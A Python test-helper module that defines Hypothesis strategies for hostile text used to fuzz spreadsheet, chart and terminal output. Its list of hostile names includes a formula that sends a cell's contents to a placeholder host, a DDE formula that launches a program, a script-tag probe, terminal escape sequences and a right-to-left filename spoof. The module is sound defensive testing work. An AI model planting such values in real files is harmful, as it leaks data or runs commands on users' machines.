"""Hypothesis strategies for hostile text: formulas, Rich markup, mathtext, control and RTL characters."""

from __future__ import annotations

from hypothesis import strategies as st

#: Names that broke something once, or would in a spreadsheet, a chart or a terminal.
HOSTILE_NAMES = [
    "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+1+2", "-2+3", "@SUM(A1:A2)", "\tTAB", "\rCR",
    "[/bold]", "[bold red]x[/]", "[link=http://x]y",
    "$\\frac{1}{0}$", "$x^2$", "$x^$", "$\\frac$", "$$", "a$b",
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "bell\x07", "nul\x00byte", "\x9b2J",
    "\u202egnp.exe", "\u2066iso\u2069", "שרת-01", "مخدم", "名前",
    "<script>alert(1)</script>", "a\"b'c", "&amp;", "",
]

#: Characters that make text hostile somewhere, mixed into ordinary ones.
_HOSTILE_CHARS = "=+-@\t\r\n[]/$\\^_{}<>&\"'|!\x1b\x07\x00\x7f\x9b\u202e\u2066\u2069\u200f"

hostile_text = st.one_of(
    st.sampled_from(HOSTILE_NAMES),
    st.text(alphabet=st.sampled_from(_HOSTILE_CHARS + "abcXYZ019 .-_"), min_size=1, max_size=24),
    st.text(min_size=1, max_size=16),
)

#: Cell values as spreadsheets hold them: text, integers, floats (NaN and infinities too), none.
cell_values = st.one_of(
    hostile_text, st.integers(-10**12, 10**12), st.floats(allow_nan=True, allow_infinity=True),
    st.none(), st.booleans(),
)
